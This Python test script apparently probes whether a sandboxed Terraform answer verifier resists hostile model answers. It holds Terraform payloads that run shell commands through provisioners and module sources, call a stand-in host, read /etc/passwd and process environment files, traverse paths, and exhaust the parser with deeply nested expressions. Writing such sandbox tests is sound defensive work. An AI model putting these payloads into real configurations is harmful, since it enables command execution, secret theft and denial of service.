"""Terraform answers that want to run something, read something or call someone: row 34, with a real Terraform.

Run as a program of its own, so that it can be run as another user:  python terraform_attacks.py TERRAFORM LEVEL
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import sys
import tempfile
import threading
from pathlib import Path
from typing import Any

import msgspec

from steelyard.analysis.scoring import is_correct
from steelyard.records import Answer, Case, Verify
from steelyard.sandbox.levels import ISOLATION_LEVEL_NAMES, ISOLATION_LEVELS
from steelyard.sandbox.sandbox import ZygoteSandbox
from steelyard.text import verbatim_reply
from steelyard.verifiers.terraform.program import TERRAFORM_PROGRAM_VARIABLE
from steelyard.verifiers.terraform.verifier import TerraformVerifier

HONEST = 'output "o" {\n  value = 1\n}\n'
CASE = Case(
    id="output",
    prompt="Write an output o that is 1.",
    language="terraform",
    reference=HONEST,
    verify=Verify(
        files={
            # nobody reads these as settings
            ".terraformrc": 'credentials "@HOST@" {\n  token = "x"\n}\nplugin_cache_dir = "@BAIT@"\n',
            ".tofurc": "this is no setting {",
            "terraform.rc": "this is no setting {",
        }
    ),
)
ATTACKS: dict[str, str] = {
    "data sources and provisioners that run programs and call servers": """
data "external" "x" {
  program = ["touch", "@BAIT@/ran"]
}
data "http" "x" {
  url = "http://@HOST@/"
}
resource "null_resource" "x" {
  provisioner "local-exec" {
    command = "touch @BAIT@/ran"
  }
}
""",
    "modules from elsewhere": """
module "git" {
  source = "git::http://@HOST@/x.git"
}
module "command" {
  source = "git::ext::sh -c touch% @BAIT@/ran"
}
module "plain" {
  source = "http://@HOST@/x.zip"
}
module "registry" {
  source = "@HOST@/a/b/c"
}
module "absolute" {
  source = "@BAIT@"
}
module "above" {
  source = "../../../../../..@BAIT@"
}
""",
    "a provider from a server": """
terraform {
  required_providers {
    x = {
      source = "@HOST@/a/b"
    }
  }
}
provider "x" {}
""",
    "a backend, and a state elsewhere": """
terraform {
  backend "http" {
    address = "http://@HOST@/state"
  }
}
data "terraform_remote_state" "x" {
  backend = "http"
  config = {
    address = "http://@HOST@/state"
  }
}
data "terraform_remote_state" "y" {
  backend = "local"
  config = {
    path = "@BAIT@/secret"
  }
}
"""
    + HONEST,
    "files of others": """
locals {
  secret  = file("@BAIT@/secret")
  users   = file("/etc/passwd")
  ours    = file("/proc/self/environ")
  parent  = file("/proc/1/environ")
  way_out = templatefile("../../../../../..@BAIT@/secret", {})
  listed  = fileset("@BAIT@", "*")
}
output "o" {
  value = "${local.listed}${local.secret}${local.users}${local.ours}${local.parent}${local.way_out}"
}
""",
}
ATTACKS |= {
    "digests and patterns of others' files": """
locals {
  coded   = filebase64("@BAIT@/secret")
  digest  = filesha256("/etc/passwd")
  home    = file(pathexpand("~/.bashrc"))
  pattern = [for name in fileset("/", "etc/p*") : file("/${name}")]
}
output "o" {
  value = "${local.coded}${local.digest}${local.home}${join("", local.pattern)}"
}
""",
    "a program in a module of its own": """
terraform {
  required_version = ">= 0.12"
  experiments      = [module_variable_optional_attrs]
  required_providers {
    local = {
      source  = "terraform.local/local/local"
      version = "1.0.0"
    }
  }
}
provider "local" {
  alias = "x"
}
resource "terraform_data" "x" {
  provisioner "local-exec" {
    command     = "touch @BAIT@/ran"
    interpreter = ["/bin/sh", "-c"]
  }
  provisioner "remote-exec" {
    inline = ["touch @BAIT@/ran"]
    connection {
      host = "@HOST@"
    }
  }
}
""",
}
BOMBS: dict[str, str] = {
    "expression in an expression": 'output "o" {\n  value = ' + "(" * 200_000 + "1" + ")" * 200_000 + "\n}\n",
    "block in a block": "locals {\n" + "a {\n" * 100_000,
    "list of a list": 'output "o" {\n  value = ' + "[" * 200_000 + "\n}\n",
    "template in a template": 'output "o" {\n  value = ' + '"${' * 50_000 + "\n}\n",
    "not of a not": 'output "o" {\n  value = ' + "!" * 500_000 + "true\n}\n",
    "many products": 'output "o" {\n  value = length(setproduct(range(1000), range(1000), range(1000)))\n}\n',
    "a long text": 'output "o" {\n  value = join("", [for i in range(1000) : join("", [for j in range(1000) : join("", [for k in range(1000) : "xxxxxxxxxx"])])])\n}\n',
}
"""What would rather end its judge than be judged."""
BOMB = "locals {\n  x = [for i in range(1000) : [for j in range(1000) : [for k in range(1000) : i]]]\n}\n" + HONEST


class Listening:
    """A server on this machine that counts who calls."""

    def __init__(self) -> None:
        self.calls = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.host = f"127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._count, daemon=True).start()

    def _count(self) -> None:
        while True:
            caller, _ = self._socket.accept()
            self.calls += 1
            caller.close()


async def attacked(level: str, much: str, bait: Path, server: Listening) -> dict[str, Any]:
    sandbox = ZygoteSandbox(ISOLATION_LEVELS[ISOLATION_LEVEL_NAMES.index(level)])
    verifier = TerraformVerifier(sandbox)

    def filled(text: str) -> str:
        return text.replace("@BAIT@", str(bait)).replace("@HOST@", server.host)

    files = {name: filled(text) for name, text in CASE.verify.files.items()}
    case = msgspec.structs.replace(CASE, verify=msgspec.structs.replace(CASE.verify, files=files))

    async def told(case: Case, text: str) -> dict[str, Any]:
        try:
            finding = await verifier.verify(case, Answer(text=verbatim_reply(filled(text), "hcl")))
        except Exception as error:  # what the engine would call our failure
            return {"failure": f"{type(error).__name__}: {error}"}
        said = [one.message for one in finding.diagnostics]
        return {
            "passed": is_correct(case, finding),
            "label": finding.label,
            "said": said,
            "secret": b"SECRET" in msgspec.json.encode(finding),
        }

    found = {name: await told(case, text) for name, text in ATTACKS.items()}
    found["bomb"] = await told(msgspec.structs.replace(case, timeout_secs=4), BOMB)
    tried = list(BOMBS.items())[:: 3 if much == "some" else 1]
    bombs = {name: await told(msgspec.structs.replace(case, timeout_secs=1), text) for name, text in tried}
    found["honest"] = await told(case, HONEST)
    await verifier.close()
    await sandbox.close()
    return {
        "found": found,
        "bombs": bombs,
        "calls": server.calls,
        "left": sorted(path.name for path in bait.iterdir()),
        "level": sandbox.level,
    }


def main() -> None:
    program, level, much = sys.argv[1:]
    os.environ[TERRAFORM_PROGRAM_VARIABLE] = program
    os.environ["A_KEY"] = "SECRET"
    with tempfile.TemporaryDirectory(prefix="attacked-") as folder:
        bait = Path(folder)
        bait.chmod(0o777)
        (bait / "secret").write_text("SECRET")
        (bait / "main.tf").write_text('output "secret" {\n  value = "SECRET"\n}\n')
        for path in bait.iterdir():
            path.chmod(0o666)
        json.dump(asyncio.run(attacked(level, much, bait, Listening())), sys.stdout)


if __name__ == "__main__":
    main()
